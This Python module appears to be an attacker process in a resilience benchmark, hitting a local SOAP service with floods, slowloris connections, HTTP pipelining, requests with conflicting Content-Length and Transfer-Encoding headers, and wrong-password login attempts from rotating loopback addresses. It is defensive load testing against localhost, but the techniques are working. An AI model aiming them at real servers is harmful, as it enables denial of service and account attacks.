"""One attacker: `python -m bench.ataque CUAL PUERTO SEGUNDOS NUMERO CLAVE` does its worst at nice 19 for so long, and ends.

It says when it is ready, begins when a line comes, and prints what it sent and what came back as JSON. `NUMERO` tells it
from its fellows, which have addresses of their own; `CLAVE` is one of the sandbox's, which are public.
"""

import http.client
import json
import os
import re
import select
import socket
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from itertools import count
from urllib.parse import urlencode

from bench.atacantes import ESTADO, con_espacios_de_nombres, con_informes, con_instrucciones, conectar, lenta, peticion

PRUEBAS = "/pruebas/soap/v1/interconexion"
FICHAS_EN_BYTES = re.compile(rb'name="(csrf_token|envio)" value="([^"]+)"')
LENTAS = 25
"""Slow connections of an attacker; eight have 200."""
LENTAS_DE_LEJOS = 8
"""Of an attacker whose connections come each from another address; eight have 64."""
SEGUIDAS = 10_000


@dataclass
class Cuenta:
    """What an attacker did."""

    peticiones: int = 0
    respuestas: int = 0
    cortes: int = 0
    enviados: int = 0


class Atacante:
    """What all attackers know: their hub, their own addresses, and when to stop."""

    def __init__(self, puerto: int, segundos: float, numero: int, clave: str) -> None:
        self.puerto, self.numero, self.clave = puerto, numero, clave
        self.fin = time.monotonic() + segundos
        self.cuenta = Cuenta()
        self._vez = count()

    def quedan(self) -> float:
        """Seconds until the end."""
        return self.fin - time.monotonic()

    def origen(self) -> str:
        """An address that nobody used before."""
        vez = next(self._vez)
        return f"127.{self.numero + 1}.{vez // 250 % 250}.{vez % 250 + 1}"

    def enviar_sin_cesar(self, mensaje: bytes) -> None:
        """The same message again and again, each from another address."""
        while self.quedan() > 0:
            try:
                with conectar(self.puerto, self.origen()) as conexion:
                    conexion.settimeout(max(0.1, self.quedan()))
                    conexion.sendall(mensaje)
                    self.cuenta.peticiones += 1
                    self.cuenta.enviados += len(mensaje)
                    self.cuenta.respuestas += bool(conexion.recv(65536))
            except OSError:
                self.cuenta.cortes += 1

    def enviar_despacio(self, cuantas: int, origen: Callable[[], str]) -> None:
        """Large messages that go on by a byte a second; whoever is thrown out begins again."""
        abiertas: list[socket.socket] = []
        while self.quedan() > 0:
            abiertas = [una for una in abiertas if self._sigue(una)]
            while len(abiertas) < cuantas and self.quedan() > 0:
                try:
                    abiertas.append(lenta(self.puerto, origen(), 33_000_000 if len(abiertas) % 2 else 16_000_000))
                except OSError:
                    self.cuenta.cortes += 1
                self.cuenta.peticiones += 1
                self.cuenta.enviados += 270_000
            time.sleep(max(0.0, min(1.0, self.quedan())))
        for una in abiertas:
            una.close()

    def _sigue(self, una: socket.socket) -> bool:
        try:
            if not select.select([una], [], [], 0)[0]:
                self.cuenta.enviados += una.send(b" ")
                return True
            self.cuenta.respuestas += bool(una.recv(65536))
        except OSError:
            self.cuenta.cortes += 1
        una.close()
        return False

    def enviar_seguidas(self) -> None:
        """As many requests as go down one connection, without waiting for any answer."""
        cuerpo = ESTADO.replace(b"<s:Body>", b"<s:Body>" + b" " * 2100)
        una = peticion(self.puerto, cuerpo)
        while self.quedan() > 0:
            with conectar(self.puerto) as conexion:
                conexion.setblocking(False)
                self._por_la_tuberia(conexion, una * 100, SEGUIDAS * len(una))

    def _por_la_tuberia(self, conexion: socket.socket, cien: bytes, total: int) -> None:
        enviados = contestadas = 0
        while self.quedan() > 0 and contestadas < SEGUIDAS:
            leer, escribir, _ = select.select([conexion], [conexion] if enviados < total else [], [], 0.5)
            try:
                if leer:
                    datos = conexion.recv(1 << 20)
                    if not datos:
                        break
                    contestadas += datos.count(b"HTTP/1.1 ")
                if escribir:
                    desde = enviados % len(cien)
                    enviados += conexion.send(cien[desde : desde + total - enviados])
            except OSError:
                self.cuenta.cortes += 1
                break
        self.cuenta.peticiones += enviados * SEGUIDAS // total
        self.cuenta.respuestas += contestadas
        self.cuenta.enviados += enviados

    def contradecirse(self) -> None:
        """Many connections whose headers contradict each other and whose bodies do not come."""
        mensaje = peticion(self.puerto, b"", Content_Length="900", Transfer_Encoding="chunked") + b"<a>"
        abiertas: list[socket.socket] = []
        origen = self.origen()
        while self.quedan() > 0:
            try:
                while len(abiertas) < LENTAS:
                    abiertas.append(conectar(self.puerto, origen))
                    abiertas[-1].sendall(mensaje)
                    self.cuenta.peticiones += 1
                    self.cuenta.enviados += len(mensaje)
            except OSError:
                self.cuenta.cortes += 1
            for una in select.select(abiertas, [], [], 0.1)[0]:
                self._sigue(una)
                abiertas.remove(una)
        for una in abiertas:
            una.close()

    def intentar_entrar(self) -> None:
        """Wrong passwords for one account after the other, each from another address."""
        while self.quedan() > 0:
            conexion = http.client.HTTPConnection(
                "127.0.0.1", self.puerto, timeout=max(0.1, self.quedan()), source_address=(self.origen(), 0)
            )
            try:
                self._intentar(conexion)
            except (OSError, http.client.HTTPException):
                self.cuenta.cortes += 1
            finally:
                conexion.close()

    def _intentar(self, conexion: http.client.HTTPConnection) -> None:
        conexion.request("GET", "/entrar")
        pagina = conexion.getresponse()
        galletas = "; ".join(valor.split(";")[0] for valor in pagina.headers.get_all("Set-Cookie") or [])
        fichas = {nombre.decode(): valor.decode() for nombre, valor in FICHAS_EN_BYTES.findall(pagina.read())}
        campos = {"cuenta": f"cuenta{self.numero}.{next(self._vez)}", "contrasena": "no-es-esta-1234"}
        cuerpo = urlencode({**fichas, **campos})
        tipo = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": galletas}
        conexion.request("POST", "/entrar", cuerpo, tipo)
        self.cuenta.peticiones += 1
        self.cuenta.enviados += len(cuerpo)
        self.cuenta.respuestas += bool(conexion.getresponse().read())


def _a_pruebas(cuerpo: bytes) -> Callable[[Atacante], None]:
    return lambda uno: uno.enviar_sin_cesar(peticion(uno.puerto, cuerpo, PRUEBAS, uno.clave, Connection="close"))


def _sin_clave(cuerpo: bytes) -> Callable[[Atacante], None]:
    return lambda uno: uno.enviar_sin_cesar(peticion(uno.puerto, cuerpo, Connection="close"))


def _pagina_publica(puerto: int) -> bytes:
    return f"GET /integradores/ejemplos HTTP/1.1\r\nHost: 127.0.0.1:{puerto}\r\nConnection: close\r\n\r\n".encode()


ATAQUES: dict[str, Callable[[], Callable[[Atacante], None]]] = {
    "A1-pruebas": lambda: _a_pruebas(con_espacios_de_nombres()),
    "A1-sin-clave": lambda: _sin_clave(con_espacios_de_nombres()),
    "A2-sin-clave": lambda: _sin_clave(con_instrucciones()),
    "A3-pruebas": lambda: _a_pruebas(con_informes(1_000_000)),
    "A4-una": lambda: lambda uno: uno.enviar_despacio(LENTAS, lambda: "127.0.0.1"),
    "A4-64": lambda: lambda uno: uno.enviar_despacio(LENTAS_DE_LEJOS, uno.origen),
    "A5-seguidas": lambda: Atacante.enviar_seguidas,
    "A6-contradictorias": lambda: Atacante.contradecirse,
    "A8-ingresos": lambda: Atacante.intentar_entrar,
    "A9-paginas": lambda: lambda uno: uno.enviar_sin_cesar(_pagina_publica(uno.puerto)),
}
"""What each prepares, and then does."""


def main() -> None:
    """Attack as the arguments say."""
    os.nice(19)
    cual, puerto, segundos, numero, clave = sys.argv[1:]
    atacar = ATAQUES[cual]()
    print("ready", flush=True)
    sys.stdin.readline()
    atacante = Atacante(int(puerto), float(segundos), int(numero), clave)
    atacar(atacante)
    print(json.dumps(asdict(atacante.cuenta)))


if __name__ == "__main__":
    main()
